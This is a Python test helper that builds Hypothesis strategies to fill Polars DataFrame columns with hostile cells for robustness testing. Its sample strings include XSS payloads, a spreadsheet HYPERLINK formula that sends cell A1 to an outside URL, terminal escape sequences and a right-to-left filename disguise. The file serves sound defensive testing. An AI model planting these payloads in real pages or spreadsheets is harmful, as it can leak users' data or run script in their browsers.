"""Cells that no sound table holds, put into tables."""

import polars as pl
from hypothesis import strategies as st

TEXTS = (
    '<img src=x onerror="document.title=1">',
    "</script><script>document.title=1</script>",
    '=HYPERLINK("http://example.org/?"&A1)',
    "\x1b[2J\x1b]0;title\x07",
    "$\\frac{$",
    "-1+1",
    "@SUM(A1)",
    "\tx\r\ny",
    "\u202egnp.exe",
    "é" * 300,
    "",
)
FLOATS = (float("nan"), float("inf"), float("-inf"), 1e308, -1e308, -999.0, 0.0, 5e6, 1e7, None)
INTEGERS = (2**63 - 1, -(2**63), -1, 0, None)
_CELLS = {pl.Float64: FLOATS, pl.Float32: FLOATS, pl.Int64: INTEGERS, pl.String: (*TEXTS, None)}


@st.composite
def hostile(draw, table: pl.DataFrame, sound: tuple[str, ...] = ()) -> pl.DataFrame:
    """The table, with hostile cells in any column but the sound ones."""
    columns = []
    for column in table:
        cells = _CELLS.get(column.dtype)  # type: ignore[arg-type]
        if cells is not None and column.name not in sound:
            places = st.integers(0, len(table) - 1)
            changes = draw(st.dictionaries(places, st.sampled_from(cells), max_size=6))
            values = [changes.get(row, value) for row, value in enumerate(column)]
            column = pl.Series(column.name, values, column.dtype, strict=False)
        columns.append(column)
    return pl.DataFrame(columns)
